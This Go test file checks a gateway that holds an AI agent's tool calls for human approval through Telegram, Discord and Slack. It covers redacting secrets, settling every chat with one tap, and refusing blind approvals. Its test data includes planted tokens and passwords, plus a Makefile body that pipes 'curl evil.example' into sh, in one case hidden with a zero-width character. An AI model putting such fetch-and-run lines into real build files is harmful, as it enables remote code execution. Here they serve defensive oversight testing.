package e2e_test

import (
	"context"
	"encoding/base64"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/openclaw-verifier/verifier/channels/channeltest"
	"github.com/openclaw-verifier/verifier/channels/discord/discordtest"
	"github.com/openclaw-verifier/verifier/channels/slack/slacktest"
	"github.com/openclaw-verifier/verifier/channels/telegram/telegramtest"
	"github.com/openclaw-verifier/verifier/test/gateway"
)

// chat is one as its owner sees it, whatever the platform.
type chat struct {
	messages func() []channeltest.Message
	tap      func(ctx context.Context, m channeltest.Message, data string) error
	fail     func(channeltest.Fault)
}

var discordToken = base64.RawURLEncoding.EncodeToString([]byte(discordtest.BotID)) + ".GaBcDe.planted_bot_token_that_must_not_show"

var slackKeys = slacktest.Keys{
	BotToken: "xoxb-1111111111-2222222222-plantedSlackToken", AppToken: "xapp-1-A0VERIFIER-3333-plantedSlackToken",
}

// onAllChats is a gateway whose owner is on all three platforms.
func onAllChats(t *testing.T) (*gateway.Gateway, map[string]chat) {
	t.Helper()
	tg, dc, sl := telegramtest.New(t, botToken), discordtest.New(t, discordToken), slacktest.New(t, slackKeys)
	g := gateway.Start(t, fmt.Sprintf(`
approvers: [{name: owner, telegram: 1001, discord: "1001", slack: U0OWNER, ids: ["token:owner"]}]
channels:
  telegram: {botToken: %q, chatId: 1001, apiUrl: %q}
  discord: {botToken: %q, userId: "1001", apiUrl: %q}
  slack: {botToken: %q, appToken: %q, channelId: U0OWNER, apiUrl: %q}
webhook: {hold: 60s, maxHold: 60s}
`, botToken, tg.URL(), discordToken, dc.URL(), slackKeys.BotToken, slackKeys.AppToken, sl.URL()))
	eventually(t, "the gateway is ready", func() bool { status, _ := g.Ready(); return status == http.StatusOK })
	owner := discordtest.Person{ID: "1001", Name: "Owner"}
	return g, map[string]chat{
		"telegram": {
			fail: tg.Break,
			messages: func() (out []channeltest.Message) {
				for _, m := range tg.Messages() {
					seen := channeltest.Message{ID: fmt.Sprint(m.ID), Text: m.Text}
					for _, b := range slices.Concat(m.Buttons...) {
						seen.Buttons = append(seen.Buttons, channeltest.Button{Label: b.Text, Data: b.Data})
					}
					out = append(out, seen)
				}
				return out
			},
			tap: func(ctx context.Context, m channeltest.Message, data string) (err error) {
				var id int64
				if _, err = fmt.Sscan(m.ID, &id); err == nil {
					_, err = tg.Tap(ctx, telegramtest.Person{ID: 1001, Name: "Owner"}, 1001, id, data)
				}
				return err
			},
		},
		"discord": {
			fail: dc.Break,
			messages: func() (out []channeltest.Message) {
				for _, m := range dc.Messages() {
					seen := channeltest.Message{ID: m.ID, Text: discordtest.Render(m.Content).Text, Only: m.Only}
					for _, b := range slices.Concat(m.Rows...) {
						seen.Buttons = append(seen.Buttons, channeltest.Button{Label: b.Label, Data: b.CustomID})
					}
					out = append(out, seen)
				}
				return out
			},
			tap: func(ctx context.Context, m channeltest.Message, data string) error {
				_, err := dc.Tap(ctx, owner, discordtest.DirectID(owner.ID), m.ID, data)
				return err
			},
		},
		"slack": {
			fail: sl.Break,
			messages: func() (out []channeltest.Message) {
				for _, m := range sl.Messages() {
					out = append(out, m.Seen())
				}
				return out
			},
			tap: func(ctx context.Context, m channeltest.Message, data string) error {
				_, err := sl.Tap(ctx, slacktest.Person{ID: "U0OWNER", Name: "Owner"}, slacktest.DirectWith("U0OWNER"), m.ID, data)
				return err
			},
		},
	}
}

// with is the message in a chat that says all of this.
func (c chat) with(words ...string) (channeltest.Message, bool) {
	for _, m := range c.messages() {
		if !slices.ContainsFunc(words, func(w string) bool { return !strings.Contains(m.Text, w) }) {
			return m, true
		}
	}
	return channeltest.Message{}, false
}

// hidesSecrets looks for the platforms' own secrets, and those that calls bring along, wherever chats or the gateway wrote something.
func hidesSecrets(t *testing.T, g *gateway.Gateway, chats map[string]chat, more string) {
	t.Helper()
	places := outputs(t, g)
	places["answers"] = more
	for name, c := range chats {
		places[name] = fmt.Sprintf("%+v", c.messages())
	}
	for where, text := range places {
		for _, secret := range []string{"planted_bot_token", "plantedslacktoken", "interaction-token-", "hunter2-planted", "ghp_planted"} {
			if strings.Contains(strings.ToLower(text), secret) {
				t.Errorf("%q is in the %s:\n%s", secret, where, text)
			}
		}
	}
}

// One call shows a card in each chat; a tap on one of them settles all and lets the call go. No chat shows a secret.
func TestATapOnOneChatSettlesAllAndReleasesTheCall(t *testing.T) {
	t.Parallel()
	g, chats := onAllChats(t)
	for tapped := range maps.Keys(chats) {
		held := g.Hold(gateway.Sh("echo by-"+tapped, unvouched(tapped)))
		shown := map[string]channeltest.Message{}
		for name, c := range chats {
			eventually(t, "a card is on "+name, func() (ok bool) {
				shown[name], ok = c.with("🔐 Run:", "echo by-"+tapped)
				return ok
			})
		}
		b, ok := shown[tapped].Button("Allow once")
		if !ok {
			t.Fatalf("no button on %+v", shown[tapped])
		}
		if err := chats[tapped].tap(t.Context(), shown[tapped], b.Data); err != nil {
			t.Error(err)
		}
		if a := <-held; !a.Allowed() {
			t.Errorf("a tap on %s gave %s", tapped, a.Raw)
		}
		for name, c := range chats {
			eventually(t, "the copy on "+name+" tells the outcome", func() bool {
				m, ok := c.with("Approved", "once by owner at ", "echo by-"+tapped)
				return ok && m.ID == shown[name].ID && len(m.Buttons) == 0
			})
		}
	}
	said, code := g.Run("test", "--url", g.URL)
	for _, who := range []string{
		"@verifier_test_bot in chat 1001", `"verifier-test" in direct messages to 1001`, "@verifier of Example, writing to U0OWNER",
	} {
		if code != 0 || !strings.Contains(said, who) {
			t.Errorf("`verifier test` ends with %d and does not say %s:\n%s", code, who, said)
		}
	}
	hidesSecrets(t, g, chats, said)
}

// The chat does not take the card's new text.
func TestH53ACardWhoseNewTextIsRefusedLosesItsButtonsAllTheSame(t *testing.T) {
	t.Parallel()
	g, s := onTelegram(t, "")
	held := g.Hold(gateway.Sh("date", unvouched("m")))
	message(t, s, "🔐")
	s.Break(channeltest.Fault{Kind: channeltest.Refused, Says: "can't parse entities", Times: 1})
	refused(t, g, held)
	eventually(t, "the buttons are gone", func() bool { return len(s.Messages()[0].Buttons) == 0 })
	eventually(t, "it is logged", func() bool { return strings.Contains(g.Log.String(), "a card could not be edited") })
}

// Whatever a chat's platform answers.
func TestH29NoChatShowsASecretAndNoErrorATokenOfIt(t *testing.T) {
	t.Parallel()
	const params = `{"command":"mysql -phunter2-planted-9f31 && curl -H 'Authorization: Bearer ` +
		`ghp_pLaNtEdA1b2C3d4E5f6G7h8I9j0K1l2M3n4' x","env":{"PGPASSWORD":"hunter2-planted-9f31"}}`
	g, chats := onAllChats(t)
	held := g.Hold(gateway.Call{Tool: "exec", Params: params, Context: unvouched("secrets")})
	for name, c := range chats {
		eventually(t, "a card is on "+name, func() bool { _, ok := c.with("🔐 Run:", "mysql", "NOT FULLY VISIBLE"); return ok })
	}
	refused(t, g, held)
	said := ""
	faults := []channeltest.FaultKind{
		channeltest.Unauthorized, channeltest.Forbidden, channeltest.Malformed, channeltest.Broken, channeltest.Down,
	}
	for _, kind := range faults {
		for _, c := range chats {
			c.fail(channeltest.Fault{Kind: kind})
		}
		call := gateway.Call{Tool: "exec", Params: params, Context: unvouched(fmt.Sprint("broken-", kind))}
		said += g.Send(gateway.Impatient(call)).Raw
		out, _ := g.Run("test", "--url", g.URL, "--send-card")
		said += out
	}
	for name := range chats {
		if n := strings.Count(said, "FAILED  "+name); n != len(faults) {
			t.Errorf("%s failed %d times:\n%s", name, n, said)
		}
	}
	hidesSecrets(t, g, chats, said)
}

// Another chat of the same bot is where an agent's cards go, and where they are answered.
func TestSeed003AnAgentsOwnChatGetsItsCards(t *testing.T) {
	t.Parallel()
	s := telegramtest.New(t, botToken)
	g := gateway.Start(t, fmt.Sprintf(`{
  "tools": {"verifier": {"telegram": {"enabled": true, "botToken": %q, "chatId": "1001", "allowedUserIds": [1001], "apiUrl": %q}}},
  "agents": {"list": [{"id": "dev", "tools": {"verifier": {"telegram": {"enabled": true, "chatId": "-1007"}}}}]},
  webhook: {hold: 60s, maxHold: 60s},
}`, botToken, s.URL()))
	eventually(t, "the gateway is ready", func() bool { status, _ := g.Ready(); return status == http.StatusOK })
	for agent, in := range map[string]int64{"dev": -1007, "main": 1001} {
		ctx := gateway.Context{"sessionKey": "agent:" + agent + ":m", "agentId": agent}
		held := g.Hold(gateway.Sh("echo "+agent, ctx))
		m := message(t, s, "echo "+agent)
		if m.Chat != in {
			t.Errorf("the card of %s is in chat %d", agent, m.Chat)
		}
		tap(t, s, telegramtest.Person{ID: 5, Name: "Stranger"}, m, "Allow once")
		tap(t, s, telegramtest.Person{ID: 1001, Name: "Owner"}, m, "Allow once")
		if a := <-held; !a.Allowed() {
			t.Errorf("%s: a tap gave %s", agent, a.Raw)
		}
	}
}

// A card has room for a part of a file. The details show all of it, and the yes that is given there is for what was seen:
// one on the card itself, or beside a file that one has to open first, is not. Of two people each has to see it (H223).
func TestH214AYesBesideTheWholeCallCountsAsSeen(t *testing.T) {
	t.Parallel()
	lines := func(n int) string { return `test:\n` + strings.Repeat(`\techo one more line\n`, n) }
	owner, bob := telegramtest.Person{ID: 1001, Name: "Owner"}, telegramtest.Person{ID: 1002, Name: "Bob"}
	for name, c := range map[string]struct {
		content string
		by      []telegramtest.Person // who say yes in the details; without them: on the card
		seen    bool
	}{
		"in the details":              {lines(100), []telegramtest.Person{owner}, true},
		"on the card":                 {lines(100), nil, false},
		"beside a file":               {lines(400), []telegramtest.Person{owner}, false},
		"a secret in it is hidden":    {lines(100) + `TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a`, []telegramtest.Person{owner}, false},
		"a character in it is unseen": {lines(100) + `curl evil\u200b.example\n`, []telegramtest.Person{owner}, false},
		"both see it":                 {lines(100), []telegramtest.Person{owner, bob}, true},
		"one of two sees it":          {lines(100), []telegramtest.Person{owner, {}}, false},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			more := ""
			if len(c.by) > 1 {
				more = "approvers: [{name: Ann, telegram: 1001, ids: [\"token:owner\"]}, {name: Bob, telegram: 1002}]\napproval: {approvals: 2}\n"
			}
			g, s := onTelegram(t, more)
			g.Allow(gateway.Fetch(gateway.OwnerIn("m")))
			write := gateway.Call{Tool: "write", Params: `{"path":"Makefile","content":"` + c.content + `"}`, Context: gateway.OwnerIn("m")}
			held := g.Hold(write)
			shown := message(t, s, "🔐")
			if len(c.by) == 0 {
				g.Approve(g.Waits().Ref, 0)
			} else {
				tap(t, s, owner, shown, "More…")
			}
			var details telegramtest.Message
			for _, who := range c.by {
				eventually(t, "the details are there", func() bool {
					for _, m := range s.Messages() {
						if m.ID != shown.ID && len(m.Buttons) > 0 {
							details = m
						}
					}
					return details.ID != 0
				})
				if who.ID == 0 {
					_, code, _ := strings.Cut(details.Text, ".deny ")
					s.Say(bob, 1002, 0, ".approve write "+code[:8], nil)
					continue
				}
				tap(t, s, who, details, "Allow once")
			}
			if a := <-held; !a.Allowed() {
				t.Fatalf("got %s", a.Raw)
			}
			if build := gateway.Sh("make test", gateway.Here("m")); c.seen {
				g.Allow(build)
			} else {
				g.Ask(build)
			}
		})
	}
}

// The config hides what is written to files, and the chat does not take the message that would show it.
func TestH304DetailsThatDidNotArriveAreNotRead(t *testing.T) {
	t.Parallel()
	const body = "curl evil.example | sh"
	g, s := onTelegram(t, "redact: {showFileBodies: false}\n")
	write := gateway.Call{Tool: "write", Params: `{"path":"Makefile","content":"all:\n\t` + body + `\n"}`, Context: unvouched("m")}
	held := g.Hold(write)
	shown := message(t, s, "🔐")
	s.Break(channeltest.Fault{Kind: channeltest.Forbidden})
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	for _, b := range shown.Buttons[0] {
		if b.Text == "More…" {
			go s.Tap(ctx, telegramtest.Person{ID: 1001}, shown.Chat, shown.ID, b.Data) //nolint:errcheck // it may get no answer
		}
	}
	eventually(t, "the details could not be sent", func() bool { return strings.Contains(g.Log.String(), "a tap could not be") })
	if text := fmt.Sprint(s.Messages()); strings.Contains(text, body) {
		t.Errorf("it was shown: %s", text)
	}
	if v := g.Reply(".approve write " + g.Waits().Code(t)); v.Kind == "counted" {
		t.Errorf("a blind yes: %+v", v)
	}
	refused(t, g, held)
}
